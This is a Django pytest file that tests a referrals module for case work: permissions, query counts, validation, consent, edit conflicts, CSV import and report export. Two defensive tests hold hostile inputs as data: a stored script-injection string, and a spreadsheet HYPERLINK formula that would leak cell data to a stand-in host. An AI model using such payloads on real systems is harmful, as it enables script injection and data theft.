from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from contracts.models import Condition
from keyworkers.tests.factories import StaffProfileFactory, in_the_team
from oocr.accounts.roles import Role
from oocr.accounts.tests.factories import FACTORY_BY_ROLE
from oocr.audit.models import AccessLog
from oocr.tests.concurrency import both_post, conflict_shown, posted_twice, read_token, signed_in
from referrals.models import Partner, Referral, ReferralUpdate
from referrals.services import PARTNER_COLUMNS
from referrals.tests.factories import PartnerFactory

pytestmark = pytest.mark.django_db


def date_post(name, day):
    return {f"{name}_0": day.day, f"{name}_1": day.month, f"{name}_2": day.year}


def errors_of(response) -> list[str]:
    return [str(error) for field in response.context["form"].errors.values() for error in field]


@pytest.mark.parametrize("role", Role.ALL + ["holder", "other keyworker"])
def test_case_referral_pages_permission_matrix(client, role, active_case, make_referral):
    case, holder, _ = active_case
    referral = make_referral(case, holder)
    user = {"holder": holder, "other keyworker": StaffProfileFactory().user}.get(role) or in_the_team(FACTORY_BY_ROLE[role]())
    client.force_login(user)
    reads = {client.get(url).status_code for url in (
        reverse("referrals:case_referrals", args=[case.pk]), reverse("referrals:referral", args=[case.pk, referral.pk]))}
    changes = {client.get(url).status_code for url in (
        reverse("referrals:referral_choose", args=[case.pk]),
        reverse("referrals:referral_new", args=[case.pk, referral.partner_id]) + f"?need={referral.need_domain_id}")}
    expected = {
        "holder": ({200}, {200}),
        "other keyworker": ({404}, {404}),
        Role.KEYWORKER: ({404}, {404}),
        Role.SUPERVISOR: ({200}, {403}),
        Role.TEAM_MANAGER: ({200}, {403}),
    }.get(role, ({403}, {403}))
    assert (reads, changes) == expected


def test_another_cases_referral_is_not_found_under_this_case(client, active_case, make_referral):
    case, holder, _ = active_case
    from contracts.tests.test_contracts import assessed_case

    other_case, other_holder = assessed_case()
    other = make_referral(other_case, other_holder)
    client.force_login(holder)
    assert client.get(reverse("referrals:referral", args=[case.pk, other.pk])).status_code == 404


def test_the_directory_costs_the_same_queries_for_5_or_30_partners(client, django_assert_max_num_queries):
    client.force_login(FACTORY_BY_ROLE[Role.KEYWORKER]())
    Partner.objects.all().delete()
    counts = []
    for total in (5, 30):
        while Partner.objects.count() < total:
            PartnerFactory(needs=["alcohol", "drugs"])
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as queries:
            response = client.get(reverse("referrals:partners"))
        assert response.context["paginator"].count == total
        counts.append(len(queries))
    assert counts[0] == counts[1]
    with django_assert_max_num_queries(counts[1]):
        client.get(reverse("referrals:partners") + "?need=1&area=PL&kind=health&q=x")


def test_the_case_referral_list_costs_the_same_queries_for_1_or_6_referrals(client, active_case, make_referral):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    case, holder, _ = active_case
    client.force_login(holder)
    counts = []
    for total in (1, 6):
        while case.referrals.count() < total:
            make_referral(case, holder, to=PartnerFactory(), sent_on=timezone.localdate() - timedelta(days=20))
        with CaptureQueriesContext(connection) as queries:
            response = client.get(reverse("referrals:case_referrals", args=[case.pk]))
        assert response.content.decode().count('data-testid="overdue"') == total
        counts.append(len(queries))
    assert counts[0] == counts[1]


def test_the_report_costs_the_same_queries_and_its_csv_download_is_logged(client, active_case, make_referral):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    case, holder, _ = active_case
    client.force_login(FACTORY_BY_ROLE[Role.TEAM_MANAGER]())
    counts = []
    for total in (1, 5):
        while Referral.objects.count() < total:
            make_referral(case, holder, to=PartnerFactory(), sent_on=timezone.localdate())
        with CaptureQueriesContext(connection) as queries:
            response = client.get(reverse("referrals:report"))
        assert len(response.context["rows"]) == total
        counts.append(len(queries))
    assert counts[0] == counts[1]
    response = client.get(reverse("referrals:report") + "?format=csv")
    lines = b"".join(response.streaming_content if response.streaming else [response.content]).decode().splitlines()
    assert lines[0].startswith("Partner,Need,Referred,Engaged") and len(lines) == 6
    assert AccessLog.objects.filter(kind="export", justification__startswith="Referral report").count() == 1


def test_a_keyworker_refers_from_the_case_and_sees_the_best_match_first(client, active_case, alcohol):
    case, holder, condition = active_case
    Partner.objects.all().delete()
    PartnerFactory(name="Other area", areas="EX")
    best = PartnerFactory(name="Best match", areas="TR")
    client.force_login(holder)
    page = client.get(reverse("referrals:referral_choose", args=[case.pk]) + f"?need={alcohol.pk}")
    assert [p.name for p in page.context["partners"]] == ["Best match", "Other area"]  # both serve alcohol
    url = reverse("referrals:referral_new", args=[case.pk, best.pk]) + f"?need={alcohol.pk}"
    refused = client.post(url, {"shared": "Drinks daily", "condition": condition.pk})
    assert errors_of(refused) == ["The person must agree to share this with the partner before you refer them"]
    assert not Referral.objects.exists()
    response = client.post(url, {"shared": "Drinks daily", "consent_to_share": "on", "condition": condition.pk})
    referral = Referral.objects.get()
    assert response["Location"] == reverse("referrals:referral", args=[case.pk, referral.pk])
    assert (referral.partner, referral.condition, referral.status) == (best, condition, "draft")


def test_sending_and_recording_progress_through_the_pages(client, active_case, make_referral):
    case, holder, condition = active_case
    referral = make_referral(case, holder, condition=condition)
    client.force_login(holder)
    base = reverse("referrals:referral", args=[case.pk, referral.pk])
    today = timezone.localdate()
    invalid = client.post(base + "send/", {"sent_by": "warm_introduction", **date_post("on", today)})
    assert "Enter who was present at the introduction" in errors_of(invalid)
    client.post(base + "send/", {"sent_by": "warm_introduction", "introduction_present": "Me, the person and Jo",
                                 "introduced_how": "in_person", **date_post("on", today)})
    no_reason = client.post(base + "progress/", {"status": "declined", **date_post("on", today)})
    assert errors_of(no_reason) == ["Choose why the referral was declined by the partner"]
    client.post(base + "progress/", {"status": "engaged", "source": "Jo", **date_post("on", today)})
    referral.refresh_from_db()
    condition.refresh_from_db()
    assert (referral.status, condition.status) == ("engaged", "in_progress")
    page = client.get(base).content.decode()
    assert "Told by Jo" in page and "Me, the person and Jo" in page


def test_who_was_present_or_who_told_us_longer_than_is_kept_is_refused_with_a_message(client, active_case, make_referral):
    case, holder, _ = active_case
    today = timezone.localdate()
    draft, sent = make_referral(case, holder), make_referral(case, holder, sent_on=today)
    client.force_login(holder)
    long = "Sam from the service " * 12  # 252 characters: more than the 200 kept, fewer than a line's usual limit
    send = client.post(reverse("referrals:referral_send", args=[case.pk, draft.pk]), {
        "sent_by": "warm_introduction", "introduction_present": long, "introduced_how": "in_person", **date_post("on", today)})
    progress = client.post(reverse("referrals:referral_progress", args=[case.pk, sent.pk]), {
        "source": long, "text": "On the waiting list", **date_post("on", today)})
    for response in (send, progress):
        assert response.status_code == 200
        [error] = errors_of(response)
        assert error.endswith("must be 200 characters or fewer")
    assert Referral.objects.get(pk=draft.pk).status == "draft"
    assert sent.updates.count() == 1  # the sending only


def test_a_draft_made_by_mistake_is_withdrawn_from_its_page_with_a_reason(client, active_case, make_referral):
    case, holder, _ = active_case
    referral = make_referral(case, holder)
    client.force_login(holder)
    base = reverse("referrals:referral", args=[case.pk, referral.pk])
    page = client.get(base).content.decode()
    assert "Send the referral" in page and 'value="withdrawn"' in page
    assert page.count('id="id_on_0"') == 1 and page.count('id="withdraw_on_0"') == 1  # two forms, no shared ids
    no_reason = client.post(base + "progress/", {"status": "withdrawn", **date_post("on", timezone.localdate())})
    assert errors_of(no_reason) == ["Choose why the referral was withdrawn"]
    assert 'id="withdraw_reason"' in no_reason.content.decode()
    client.post(base + "progress/", {"status": "withdrawn", "reason": "made_in_error", **date_post("on", timezone.localdate())})
    referral.refresh_from_db()
    assert (referral.status, referral.end_reason, referral.sent_on) == ("withdrawn", "made_in_error", None)


def test_a_supervisor_cannot_move_a_keyworkers_referral(client, active_case, make_referral):
    case, holder, _ = active_case
    referral = make_referral(case, holder, sent_on=timezone.localdate())
    client.force_login(FACTORY_BY_ROLE[Role.SUPERVISOR]())
    response = client.post(reverse("referrals:referral_progress", args=[case.pk, referral.pk]),
                           {"status": "engaged", **date_post("on", timezone.localdate())})
    assert response.status_code == 403
    assert Referral.objects.get(pk=referral.pk).status == "sent"


def partner_post(partner=None, **changes):
    data = {"name": "Harbour Alcohol Service", "kind": "health", "services": "Groups.", "need_domains": [],
            "areas": "pl", "sex": "", "route": "warm_introduction", "acknowledge_days": 3, "appointment_days": 10,
            "is_active": "on", "referral_email": "", "email": "", "phone": "", "min_age": "", "max_age": "",
            "eligibility_notes": "", "record_version": str(partner.version) if partner else ""}
    return {**data, **changes}


def test_a_team_manager_adds_a_partner_with_clear_messages_for_bad_input(client, alcohol):
    client.force_login(FACTORY_BY_ROLE[Role.TEAM_MANAGER]())
    invalid = client.post(reverse("referrals:partner_new"), partner_post(name="", areas="Plymouth 1"))
    assert set(errors_of(invalid)) == {
        "Enter the partner's name", "Select at least one need the partner serves",
        "Enter postcode areas as letters separated by spaces, like PL TQ",
    }
    invalid = client.post(reverse("referrals:partner_new"), partner_post(need_domains=[alcohol.pk], appointment_days=1))
    assert errors_of(invalid) == ["Days to a first appointment must be at least the days to acknowledge"]
    response = client.post(reverse("referrals:partner_new"), partner_post(need_domains=[alcohol.pk]))
    partner = Partner.objects.get(name="Harbour Alcohol Service")
    assert response["Location"] == reverse("referrals:partner", args=[partner.pk])
    assert (partner.areas, list(partner.need_domains.all())) == ("PL", [alcohol])


def test_an_edit_made_meanwhile_by_someone_else_is_not_overwritten(alcohol):
    partner = PartnerFactory(name="Harbour Alcohol Service")
    url = reverse("referrals:partner_edit", args=[partner.pk])
    sam = FACTORY_BY_ROLE[Role.ADMINISTRATOR](first_name="Sam", last_name="Admin")
    first, second = both_post(url, first_user=sam, second_user=FACTORY_BY_ROLE[Role.TEAM_MANAGER](),
                              first=partner_post(need_domains=[alcohol.pk], services="Their change"),
                              second=partner_post(need_domains=[alcohol.pk], services="My change"))
    assert first.status_code == 302
    page = conflict_shown(second)
    assert "Someone else changed this record at" in page and "(Sam Admin)" in page
    assert "My change" in page and "Their change" in page
    partner.refresh_from_db()
    assert (partner.services, partner.version) == ("Their change", 2)


def test_a_new_partner_posted_twice_is_added_once(alcohol):
    first, second = posted_twice(reverse("referrals:partner_new"), user=FACTORY_BY_ROLE[Role.TEAM_MANAGER](),
                                 data=partner_post(need_domains=[alcohol.pk]))
    partner = Partner.objects.get(name="Harbour Alcohol Service")
    assert first["Location"] == second["Location"] == reverse("referrals:partner", args=[partner.pk])


def csv_upload(rows, name="partners.csv"):
    text = ",".join(PARTNER_COLUMNS) + "\n" + "\n".join(rows) + "\n"
    return SimpleUploadedFile(name, text.encode(), content_type="text/csv")


GOOD_ROW = "New Harbour Service,voluntary,Groups.,alcohol;drugs,PL TQ,,18,,,01632 960999,,refer@harbour.example.org,referral_form,5,15,yes"


def test_importing_partners_adds_and_updates_by_name(client):
    client.force_login(FACTORY_BY_ROLE[Role.TEAM_MANAGER]())
    before = Partner.objects.count()
    updated_row = "Mind Plymouth,voluntary,Peer support only.,mental_health,PL,,16,,,,,,signpost,5,15,no"
    response = client.post(reverse("referrals:partner_import"), {"file": csv_upload([GOOD_ROW, updated_row])}, follow=True)
    assert "Partners imported: 1 added, 1 updated." in response.content.decode()
    assert Partner.objects.count() == before + 1
    mind = Partner.objects.get(name="Mind Plymouth")
    assert (mind.services, mind.is_active, mind.route) == ("Peer support only.", False, "signpost")
    assert list(Partner.objects.get(name="New Harbour Service").need_domains.values_list("code", flat=True)) == ["drugs", "alcohol"]


def test_an_import_with_a_bad_row_loads_nothing_and_lists_every_bad_row(client):
    client.force_login(FACTORY_BY_ROLE[Role.ADMINISTRATOR]())
    before = list(Partner.objects.values_list("name", "services"))
    rows = [
        GOOD_ROW,
        "Bad One,charity,Groups.,booze,PL,,x,,,,,,referral_form,5,15,yes",
        "Bad Two,health,Groups.,alcohol,Plymouth,,,,,,,not-an-email,phone,5,15,maybe",
        GOOD_ROW,
        "Bad Three,health,Groups.,alcohol,PL,,,,,,,,referral_form,,,yes",
    ]
    response = client.post(reverse("referrals:partner_import"), {"file": csv_upload(rows)})
    errors = errors_of(response)
    assert errors[0].startswith("Line 3: needs: no need domain has the code booze; min_age: 'x' is not a whole number")
    assert "kind: Value 'charity' is not a valid choice." in errors[0]
    assert errors[1].startswith("Line 4: active: write yes or no")
    assert "areas: Enter postcode areas" in errors[1] and "referral_email: Enter a valid email address." in errors[1]
    assert "route: Value 'phone' is not a valid choice." in errors[1]
    assert errors[2] == "Line 6: acknowledge_days: give the number of working days; appointment_days: give the number of working days"
    assert errors[3] == "New Harbour Service appears more than once"
    assert list(Partner.objects.values_list("name", "services")) == before


def test_an_import_refuses_a_file_that_is_not_csv(client):
    client.force_login(FACTORY_BY_ROLE[Role.ADMINISTRATOR]())
    response = client.post(reverse("referrals:partner_import"), {"file": csv_upload([GOOD_ROW], name="partners.xlsx")})
    assert errors_of(response) == ["The file must be a CSV file smaller than 2 MB"]
    wrong_columns = SimpleUploadedFile("p.csv", b"name,type\nX,health\n", content_type="text/csv")
    response = client.post(reverse("referrals:partner_import"), {"file": wrong_columns})
    assert errors_of(response)[0].startswith("The first line must be the column names: name,type,services")


def test_a_stored_script_in_a_partner_is_shown_as_text(client):
    PartnerFactory(name="<script>alert(1)</script>")
    client.force_login(FACTORY_BY_ROLE[Role.KEYWORKER]())
    content = client.get(reverse("referrals:partners") + "?q=script").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in content and "<script>alert(1)" not in content




def test_the_case_overview_warns_of_an_overdue_referral(client, active_case, make_referral):
    case, holder, _ = active_case
    client.force_login(holder)
    overview = reverse("cases:case_detail", args=[case.pk])
    make_referral(case, holder, sent_on=timezone.localdate() - timedelta(days=2))
    assert 'data-testid="referrals-overdue"' not in client.get(overview).content.decode()
    make_referral(case, holder, to=PartnerFactory(), sent_on=timezone.localdate() - timedelta(days=30))
    assert "1 referral overdue</a>: chase the partner." in client.get(overview).content.decode()


@pytest.mark.parametrize("need", ["zzz", "-1", "99999999999999999999999", ""])
def test_a_referral_form_for_a_need_that_is_not_a_need_is_not_found_and_refers_no_one(client, active_case, partner, need):
    case, holder, _ = active_case
    client.force_login(holder)
    url = reverse("referrals:referral_new", args=[case.pk, partner.pk])
    assert client.get(url, {"need": need}).status_code == 404
    assert client.post(f"{url}?need={need}", {"shared": "Drinks daily", "consent_to_share": "on"}).status_code == 404
    assert not Referral.objects.exists()


def test_a_partner_csv_with_a_cell_over_the_csv_limit_is_refused_by_line_and_nothing_is_written(client):
    client.force_login(FACTORY_BY_ROLE[Role.ADMINISTRATOR]())
    before = list(Partner.objects.values_list("name", "services"))
    huge = f'Huge Service,voluntary,"{"x" * 140_000}",alcohol,PL,,18,,,,,,referral_form,5,15,yes'
    response = client.post(reverse("referrals:partner_import"), {"file": csv_upload([GOOD_ROW, huge])})
    assert response.status_code == 200
    assert errors_of(response) == ["Line 3: a cell must be 131,072 characters or fewer. Nothing was imported"]
    assert list(Partner.objects.values_list("name", "services")) == before


def test_a_partner_import_runs_the_same_queries_for_300_rows_as_for_3():
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from referrals.services import partner_import_csv

    def rows(names):
        return ",".join(PARTNER_COLUMNS) + "\n" + "".join(
            f"Service {n},voluntary,Groups.,alcohol;drugs,PL,,18,,,,,,referral_form,5,15,yes\n" for n in names)

    with CaptureQueriesContext(connection) as few:
        assert partner_import_csv(text=rows(range(3))) == (3, 0)
    with CaptureQueriesContext(connection) as many:
        assert partner_import_csv(text=rows(range(3, 303))) == (300, 0)
    assert len(many.captured_queries) == len(few.captured_queries)
    assert Partner.objects.filter(name__startswith="Service ").count() == 303
    assert Partner.objects.get(name="Service 299").need_domains.count() == 2


def test_a_partner_name_written_as_a_formula_reaches_the_report_csv_as_text(client, active_case, make_referral):
    case, holder, _ = active_case
    hostile = '=HYPERLINK("http://evil.example/?leak="&A2, "Open")'
    make_referral(case, holder, to=PartnerFactory(name=hostile), sent_on=timezone.localdate())
    client.force_login(FACTORY_BY_ROLE[Role.TEAM_MANAGER]())
    response = client.get(reverse("referrals:report") + "?format=csv")
    import csv
    import io

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == "'" + hostile


def test_a_referral_and_its_progress_posted_twice_are_recorded_once():
    from referrals.tests import form_cases

    context = form_cases._new_referral()
    first, second = posted_twice(context["url"], user=context["user"], data=form_cases._refer(context))
    assert first["Location"] == second["Location"]
    assert Referral.objects.filter(case=context["case"]).count() == 1

    context = form_cases._referral_url("referral_progress")(sent=True)()
    client = signed_in(context["user"])
    token = read_token(client, reverse("referrals:referral", args=[context["case"].pk, context["referral"].pk]))
    responses = [client.post(context["url"], {**form_cases._progress(context), "form_token": token}) for _ in range(2)]
    assert responses[0]["Location"] == responses[1]["Location"]
    assert ReferralUpdate.objects.filter(referral=context["referral"], status="acknowledged").count() == 1


def test_a_referral_linked_to_a_condition_in_two_tabs_keeps_the_first_link_and_shows_it():
    from referrals.tests import form_cases

    context = form_cases._referral_url("referral_condition")(sent=True)()
    other = Condition.objects.create(contract=context["condition"].contract, kind="rehabilitative",
                                     description="You will see the debt adviser.", due_date=context["condition"].due_date,
                                     need_domain=context["condition"].need_domain)
    first, second = both_post(context["url"], first_user=context["user"], second_user=context["user"],
                              first={"condition": context["condition"].pk}, second={"condition": other.pk})
    assert first.status_code == 302
    their_version = conflict_shown(second).split('data-testid="edit-conflict"')[1]
    assert context["condition"].description[:40] in their_version
    assert Referral.objects.get(pk=context["referral"].pk).condition == context["condition"]
